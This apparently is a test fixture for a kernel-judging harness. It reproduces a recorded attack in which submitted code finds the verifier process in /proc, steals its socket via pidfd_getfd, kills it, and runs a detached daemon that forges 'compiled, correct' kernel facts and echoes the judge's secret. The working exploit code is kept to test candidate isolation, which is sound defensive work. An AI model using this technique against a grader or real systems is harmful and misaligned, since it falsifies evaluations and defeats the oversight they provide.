# A hostile candidate's module-level code (tests/test_candidate_isolation.py puts it above a plain XLA `x + y`, no
# kernel at all): the attack that landed in issue 56. It finds the judge's verifier in /proc (same uid, same PID
# namespace, dumpable), copies the verifier's socket to itself with pidfd_getfd, kills the verifier and leaves a
# setsid double-forked daemon that answers every module check with the facts of a kernel ("one Mosaic kernel,
# every output from it, all the work in it"), echoing whatever the request carries. The judge then ran the
# plain XLA program and called it "compiled, correct".
import ctypes as _ct
import json as _js
import os as _os
import struct as _st


def _recv(fd):
    def exactly(n):
        out = b""
        while len(out) < n:
            chunk = _os.read(fd, n - len(out))
            if not chunk:
                _os._exit(0)
            out += chunk
        return out
    return exactly(_st.unpack(">Q", exactly(8))[0])


def _serve(fd):
    while True:
        header, blob = _js.loads(_recv(fd)), _recv(fd)
        _recv(fd)  # the judge's concrete inputs
        facts = {"platforms": ["tpu", "cpu"], "custom_calls": ["tpu_custom_call"], "kernels": 1, "bytes": len(blob),
                 "kernel_names": ["add_kernel"], "outputs_from_kernels": [True], "xla_flops": 0, "kernel_flops": 1,
                 "platform_branches": [], "census": []}
        answer = {k: v for k, v in header.items() if k == "secret"}  # whatever the request carries, back
        answer["facts"] = facts
        data = _js.dumps(answer).encode()
        _os.write(fd, _st.pack(">Q", len(data)) + data)


def _steal():
    for name in _os.listdir("/proc"):
        try:
            argv = open(f"/proc/{name}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"pallasite.runner.judging.throwaway" in argv:
            pid, fd = int(name), int(argv[argv.index(b"pallasite.runner.judging.throwaway") + 1])
            break
    else:
        return
    try:
        stolen = _ct.CDLL(None, use_errno=True).syscall(438, _os.pidfd_open(pid), fd, 0)  # pidfd_getfd
    except OSError:
        return
    if stolen < 0:
        return
    _os.kill(pid, 9)
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _serve(stolen)
        _os._exit(0)
    _os.wait()


_steal()
